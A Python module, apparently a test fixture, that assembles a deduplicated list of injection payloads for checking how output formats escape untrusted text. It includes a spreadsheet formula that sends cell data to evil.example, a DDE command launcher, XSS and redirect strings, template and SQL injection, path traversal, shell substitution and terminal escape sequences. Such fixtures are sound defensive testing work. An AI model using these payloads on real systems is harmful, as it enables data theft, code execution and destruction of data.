"""Text that is live somewhere: at least 200 invented attacks, to be put into every field of every format.

Families times variants. Sources of the families: OWASP, "CSV Injection"; OWASP, "XSS Filter Evasion Cheat Sheet"; Boucher and
Anderson, "Trojan Source" (2021) for the directions; ECMA-48 for what a terminal obeys; STIX 2.1, section 9, for patterns.
"""

from __future__ import annotations

from itertools import product

_SIGNS = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")
_BEFORE = ("", " ", "\t", "\r", "\n", "\u00a0", "\u200b")
_CALLS = ('HYPERLINK("https://evil.example/?"&A1,"Dun")', "cmd|' /C calc'!A0", "SUM(1+1)*2")

FORMULAS = (
    *(before + sign + _CALLS[0] for before, sign in product(_BEFORE, _SIGNS)),
    *(sign + call for sign, call in product(_SIGNS[:4], _CALLS[1:])),
    "\ufeff=1+1",
    "'=1+1",
    '"=1+1',
    '",=1+1,"',
    "\n\n=1+1",
    "x\r\n=1+1",
    ";=1+1",
)

_LEFT = ("", '">', "'>", "</title>", "</textarea>", "</style>", "</script>", "</svg>", "-->", "]]>", "{{", "{% raw %}")
_LIVE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '<iframe src="https://evil.example"></iframe>',
    '<a href="javascript:alert(1)">Dun</a>',
)

HTML = (
    *(left + live for left, live in product(_LEFT, _LIVE)),
    '" onmouseover="alert(1)',
    "' autofocus onfocus='alert(1)",
    "<base href='https://evil.example/'>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "<link rel=stylesheet href=//evil.example/a.css>",
    "<style>@import url(//evil.example/a.css)</style>",
    "<form action=//evil.example><button>Dun",
    "<math><mi xlink:href='data:text/html,<script>alert(1)</script>'>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "<ScRiPt\x00>alert(1)</sCrIpT>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "{{ 7 * 7 }}",
    "{% include '/etc/passwd' %}",
    "${7*7}",
    "<!--#exec cmd='ls'-->",
    "<?php echo 1 ?>",
)

URLS = tuple(
    before + scheme + after
    for before, (scheme, after) in product(
        ("", " ", "\x01", "\t"),
        (
            ("javascript:", "alert(1)"),
            ("JaVaScRiPt:", "alert(1)"),
            ("java\nscript:", "alert(1)"),
            ("data:", "text/html,<script>alert(1)</script>"),
            ("vbscript:", "msgbox(1)"),
            ("file:", "///etc/passwd"),
            ("blob:", "https://evil.example/1"),
            ("//", "evil.example"),
            ("https:", '//news.example/"><script>alert(1)</script>'),
            ("http:", "//news.example/\r\nSet-Cookie: a=b"),
        ),
    )
)

MARKDOWN = (
    "[Dun](javascript:alert(1))",
    "![Dun](https://evil.example/pixel.png)",
    "[Dun]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "https://evil.example",
    "www.evil.example",
    "# Dun",
    "Dun\n===",
    "Dun\n---",
    "- Dun",
    "1. Dun",
    "> Dun",
    "```\nDun\n```",
    "~~~\nDun",
    "    Dun",
    "`Dun",
    "**Dun",
    "__Dun__",
    "~~Dun~~",
    "| a | b |\n|---|---|",
    "[^1]: Dun",
    "@anna",
    "$$x$$",
    "\\",
    "trailing \\\n",
    "[/bold]",
    "[link=https://evil.example]Dun[/link]",
)

TERMINAL = (
    "\x1b[31mred",
    "\x1b[2J\x1b[H",
    "\x1b]0;title\x07",
    "\x1b]8;;https://evil.example\x1b\\Dun\x1b]8;;\x1b\\",
    "\x1b]52;c;ZWNobw==\x07",
    "\x1bP+q544e\x1b\\",
    "\x9b31m",
    "\x9d0;title\x9c",
    "\x08\x08\x08Dun",
    "Dun\rArland",
    "\x07",
    "\x00",
    "\x7f",
    "a\x0bb\x0cc",
    "a\u0085b",
    "a\u2028b\u2029c",
)

DIRECTIONS = tuple(
    before + mark + "nuD"
    for before, mark in product(
        ("", "Arland "), "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\ufeff"
    )
)

JSON = (
    '"}],"@context":"https://evil.example"',
    '","@type":"ClaimReview","reviewRating":{"ratingValue":1}}',
    '"}\n{"id":"A-1","verdict":"supported"}',
    "</script><script>alert(1)</script>",
    "<!--<script>",
    "@id",
    "_:b0",
    "__proto__",
    "null",
    "true",
    "1e999",
    "NaN",
    "\\",
    '\\"',
    "\\u0000",
    "\\ud800",
)

STIX = (
    "[file:name = 'a'] OR [url:value LIKE '%']",
    "identity--00000000-0000-4000-8000-000000000000",
    "bundle--1",
    "x_custom",
    "extension-definition--1",
    '"],"object_refs":["identity--1"',
    "2022-02-17T00:00:00.000Z",
    "marking-definition--613f2e26-407d-48c7-9eca-b8e91df99dc9",
)

OTHER = (
    "' OR 1=1 --",
    "'; DROP TABLE allegation; --",
    "%s%s%n",
    "{0.__class__}",
    "../../etc/passwd",
    "$(id)",
    "`id`",
    "a" * 5000,
    "Z\u0351\u036a\u0306" * 40,
    "\U0001f469\u200d\U0001f692",
    "half \ud83d",
    "\ufffe\uffff",
)

PAYLOADS: tuple[str, ...] = tuple(
    dict.fromkeys((*FORMULAS, *HTML, *URLS, *MARKDOWN, *TERMINAL, *DIRECTIONS, *JSON, *STIX, *OTHER))
)
"""All of them, each once, in an order that stays."""
